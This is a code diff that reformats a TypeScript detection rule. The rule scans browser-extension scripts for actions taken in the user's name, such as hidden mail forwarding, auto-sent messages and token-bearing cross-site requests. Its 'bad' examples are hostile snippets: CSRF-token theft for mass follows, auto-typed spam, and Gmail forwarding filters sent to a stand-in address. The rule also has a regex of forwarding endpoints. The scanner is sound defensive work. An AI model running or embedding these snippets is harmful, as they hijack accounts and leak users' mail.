@@ -1,4 +1,19 @@
-import { apiPath, callsNamed, callsOf, constant, keysOf, listOf, Op, pattern, propertyOf, receiverOf, resolve, writesOf, type Call, type ScriptFacts } from '../../facts/javascript/query.ts';
+import {
+  apiPath,
+  callsNamed,
+  callsOf,
+  constant,
+  keysOf,
+  listOf,
+  Op,
+  pattern,
+  propertyOf,
+  receiverOf,
+  resolve,
+  writesOf,
+  type Call,
+  type ScriptFacts,
+} from '../../facts/javascript/query.ts';
 import { defineRule, type Hit } from '../../rule.ts';
 import { backgroundExample, checkScripts, contentExample, type Judged } from './checkScripts.ts';
 import { listenersOf } from './listeners.ts';
@@ -24,8 +39,14 @@ export const actsInPersonsName = defineRule({
     if (inPages) yield* typesAndSends(script, hit);
     if (mentions(script, FORWARDS)) {
       for (const call of few(callsOf(script, 'fetch', '$.post', '$.ajax', 'axios.post'), 100)) {
-        const given = [pattern(script, call.args[0] ?? 0), ...[...originsOf(script, propertyOf(script, call.args[1] ?? 0, 'body') || (call.args[1] ?? 0))].flatMap((one) => (script.op[one] === Op.object ? keysOf(script, one) : [constant(script, one) ?? '']))];
-        if (given.some((text) => FORWARDS.test(text)) && posts(script, call)) yield hit(call.value, { message: 'It makes a rule by which the person’s mail is forwarded.' });
+        const given = [
+          pattern(script, call.args[0] ?? 0),
+          ...[...originsOf(script, propertyOf(script, call.args[1] ?? 0, 'body') || (call.args[1] ?? 0))].flatMap(
+            (one) => (script.op[one] === Op.object ? keysOf(script, one) : [constant(script, one) ?? '']),
+          ),
+        ];
+        if (given.some((text) => FORWARDS.test(text)) && posts(script, call))
+          yield hit(call.value, { message: 'It makes a rule by which the person’s mail is forwarded.' });
       }
     }
     if (foreign.length === 0) return;
@@ -37,26 +58,57 @@ export const actsInPersonsName = defineRule({
       // To the page's own site: no host in the address. To another one: with the sign that its own pages give.
       const own = inPages && /^\/(?!\/)/.test(to);
       const host = hostOf(to);
-      if (!own && (host === undefined || !leadsOut(to) || !hasToken(script, propertyOf(script, options, 'headers')))) continue;
+      if (!own && (host === undefined || !leadsOut(to) || !hasToken(script, propertyOf(script, options, 'headers'))))
+        continue;
       const body = propertyOf(script, options, 'body');
-      const given = [body, ...(own ? [] : [address])].filter((value) => value !== 0 && script.op[value] !== Op.constant);
-      if (foreign.some((request) => request.value !== call.value && (own || ownerOf(hostOf(request.to) ?? '') !== ownerOf(host ?? '')) && given.some((value) => originsOf(script, value).has(request.value)))) yield hit(call.value);
+      const given = [body, ...(own ? [] : [address])].filter(
+        (value) => value !== 0 && script.op[value] !== Op.constant,
+      );
+      if (
+        foreign.some(
+          (request) =>
+            request.value !== call.value &&
+            (own || ownerOf(hostOf(request.to) ?? '') !== ownerOf(host ?? '')) &&
+            given.some((value) => originsOf(script, value).has(request.value)),
+        )
+      )
+        yield hit(call.value);
     }
   }),
   examples: {
     bad: [
-      contentExample('(async () => { const job = await (await fetch("https://x.example/job")).json(); const key = document.querySelector("[name=csrf]").value; const b = new URLSearchParams({ key, body: job.text + " " + job.link, to: job.to }); await fetch("/messages/send/", { method: "POST", body: b, credentials: "include" }); })();'),
-      contentExample('const token = () => document.cookie.match(/csrftoken=(\\w+)/)[1]; async function post(path) { return fetch("https://www.photos.example.com/api/web/" + path, { method: "POST", headers: { "x-csrftoken": token() } }); } (async () => { const list = await (await fetch("https://x.example/list.json")).json(); for (const t of list) await post("friendships/" + t.id + "/follow/"); })();'),
-      contentExample('const one = (s) => document.querySelector(s); class Sender { constructor(api) { this.api = api; } async jobs() { return (await fetch(this.api + "/campaign")).json(); } async type(text) { one(\'div[contenteditable="true"]\').focus(); document.execCommand("insertText", false, text); one(\'span[data-icon="send"]\').click(); } async run() { for (const { text } of await this.jobs()) await this.type(text); } } setTimeout(() => new Sender("https://x.example").run(), 6e4);'),
-      contentExample('const body = new URLSearchParams({ act: "cf_add", cf2_emc: "true", cf2_email: "box@x.example", irf: "on" }); fetch(`/mail/u/0/?ik=${window.ik}&at=${window.GM_ACTION_TOKEN}&view=up`, { method: "POST", body });'),
-      backgroundExample('chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { method: "POST", headers: { Authorization: "Bearer " + t }, body: JSON.stringify({ action: { forward: "box@x.example" } }) }));'),
+      contentExample(
+        '(async () => { const job = await (await fetch("https://x.example/job")).json(); const key = document.querySelector("[name=csrf]").value; const b = new URLSearchParams({ key, body: job.text + " " + job.link, to: job.to }); await fetch("/messages/send/", { method: "POST", body: b, credentials: "include" }); })();',
+      ),
+      contentExample(
+        'const token = () => document.cookie.match(/csrftoken=(\\w+)/)[1]; async function post(path) { return fetch("https://www.photos.example.com/api/web/" + path, { method: "POST", headers: { "x-csrftoken": token() } }); } (async () => { const list = await (await fetch("https://x.example/list.json")).json(); for (const t of list) await post("friendships/" + t.id + "/follow/"); })();',
+      ),
+      contentExample(
+        'const one = (s) => document.querySelector(s); class Sender { constructor(api) { this.api = api; } async jobs() { return (await fetch(this.api + "/campaign")).json(); } async type(text) { one(\'div[contenteditable="true"]\').focus(); document.execCommand("insertText", false, text); one(\'span[data-icon="send"]\').click(); } async run() { for (const { text } of await this.jobs()) await this.type(text); } } setTimeout(() => new Sender("https://x.example").run(), 6e4);',
+      ),
+      contentExample(
+        'const body = new URLSearchParams({ act: "cf_add", cf2_emc: "true", cf2_email: "box@x.example", irf: "on" }); fetch(`/mail/u/0/?ik=${window.ik}&at=${window.GM_ACTION_TOKEN}&view=up`, { method: "POST", body });',
+      ),
+      backgroundExample(
+        'chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { method: "POST", headers: { Authorization: "Bearer " + t }, body: JSON.stringify({ action: { forward: "box@x.example" } }) }));',
+      ),
     ],
     good: [
-      backgroundExample('chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { headers: { Authorization: "Bearer " + t } }).then((r) => r.json()).then(show));'),
-      contentExample('button.addEventListener("click", async () => { const { text } = await (await fetch("https://api.tool.example/reply")).json(); document.querySelector("div[contenteditable=true]").focus(); document.execCommand("insertText", false, text); document.querySelector("button.send").click(); });'),
-      backgroundExample('(async () => { const list = await (await fetch("https://api.tool.example/list.json")).json(); for (const t of list) await fetch("https://app.tool.example/items/" + t.id, { method: "POST", headers: { "x-csrf-token": key } }); })();'),
-      contentExample('(async () => { const list = await (await fetch("/api/list")).json(); await fetch("/api/mark", { method: "POST", body: JSON.stringify({ ids: list.ids }) }); fetch("https://stats.example/p"); })();'),
-      contentExample('(async () => { const t = await (await fetch("https://api.example.com/t")).json(); show(t); await fetch("/comment", { method: "POST", body: new FormData(form) }); })();'),
+      backgroundExample(
+        'chrome.identity.getAuthToken({}, (t) => fetch("https://gmail.googleapis.com/gmail/v1/users/me/settings/filters", { headers: { Authorization: "Bearer " + t } }).then((r) => r.json()).then(show));',
+      ),
+      contentExample(
+        'button.addEventListener("click", async () => { const { text } = await (await fetch("https://api.tool.example/reply")).json(); document.querySelector("div[contenteditable=true]").focus(); document.execCommand("insertText", false, text); document.querySelector("button.send").click(); });',
+      ),
+      backgroundExample(
+        '(async () => { const list = await (await fetch("https://api.tool.example/list.json")).json(); for (const t of list) await fetch("https://app.tool.example/items/" + t.id, { method: "POST", headers: { "x-csrf-token": key } }); })();',
+      ),
+      contentExample(
+        '(async () => { const list = await (await fetch("/api/list")).json(); await fetch("/api/mark", { method: "POST", body: JSON.stringify({ ids: list.ids }) }); fetch("https://stats.example/p"); })();',
+      ),
+      contentExample(
+        '(async () => { const t = await (await fetch("https://api.example.com/t")).json(); show(t); await fetch("/comment", { method: "POST", body: new FormData(form) }); })();',
+      ),
     ],
   },
 });
@@ -72,13 +124,23 @@ const SENDS = /send|submit|post|reply|tweet|publish/i;
 
 /** What a server answered is typed into a field of the page and a button to send it pressed, without a click of the person. */
 function* typesAndSends(script: ScriptFacts, hit: Judged['hit']): Generator<Hit> {
-  const presses = few(callsNamed(script, 'click', 'submit', 'requestSubmit'), 40).filter((call) => SENDS.test(selectorOf(script, call)));
+  const presses = few(callsNamed(script, 'click', 'submit', 'requestSubmit'), 40).filter((call) =>
+    SENDS.test(selectorOf(script, call)),
+  );
   if (presses.length === 0 || !mentions(script, COMPOSES)) return;
-  const clicked = new Set(listenersOf(script, 'click').flatMap(({ fn }) => callsWithin(script, fn).map((call) => call.value)));
+  const clicked = new Set(
+    listenersOf(script, 'click').flatMap(({ fn }) => callsWithin(script, fn).map((call) => call.value)),
+  );
   const press = presses.find((call) => !clicked.has(call.value));
   if (press === undefined) return;
-  const typed = [...callsOf(script, 'document.execCommand').filter((call) => constant(script, call.args[0] ?? 0) === 'insertText').map((call) => call.args[2] ?? 0), ...few(writesOf(script, 'value', 'innerText', 'textContent', 'innerHTML'), 60).map((write) => write.value)];
-  if (typed.some((value) => isFromServer(script, value))) yield hit(press.value, { message: 'What a server answered is typed into the page and sent.' });
+  const typed = [
+    ...callsOf(script, 'document.execCommand')
+      .filter((call) => constant(script, call.args[0] ?? 0) === 'insertText')
+      .map((call) => call.args[2] ?? 0),
+    ...few(writesOf(script, 'value', 'innerText', 'textContent', 'innerHTML'), 60).map((write) => write.value),
+  ];
+  if (typed.some((value) => isFromServer(script, value)))
+    yield hit(press.value, { message: 'What a server answered is typed into the page and sent.' });
 }
 
 /** The selector of the element that a call is about. */
@@ -88,9 +150,12 @@ function selectorOf(script: ScriptFacts, call: Call): string {
 }
 
 /** Where mail services make rules that forward what comes in. Sources: the reference of Gmail's and Microsoft Graph's interfaces, forms of Gmail's own pages. */
-const FORWARDS = /settings\/(forwardingAddresses|autoForwarding|filters)\b|\/messageRules\b|\bcf2_email\b|\bforwardingSmtpAddress\b|act=cf_add/i;
+const FORWARDS =
+  /settings\/(forwardingAddresses|autoForwarding|filters)\b|\/messageRules\b|\bcf2_email\b|\bforwardingSmtpAddress\b|act=cf_add/i;
 
 function posts(script: ScriptFacts, call: Call): boolean {
-  const method = constant(script, propertyOf(script, call.args[1] ?? 0, 'method')) ?? constant(script, propertyOf(script, call.args[0] ?? 0, 'method'));
+  const method =
+    constant(script, propertyOf(script, call.args[1] ?? 0, 'method')) ??
+    constant(script, propertyOf(script, call.args[0] ?? 0, 'method'));
   return method === undefined ? /\.post$/.test(apiPath(script, call.callee) ?? '') : /^(POST|PUT|PATCH)$/i.test(method);
 }
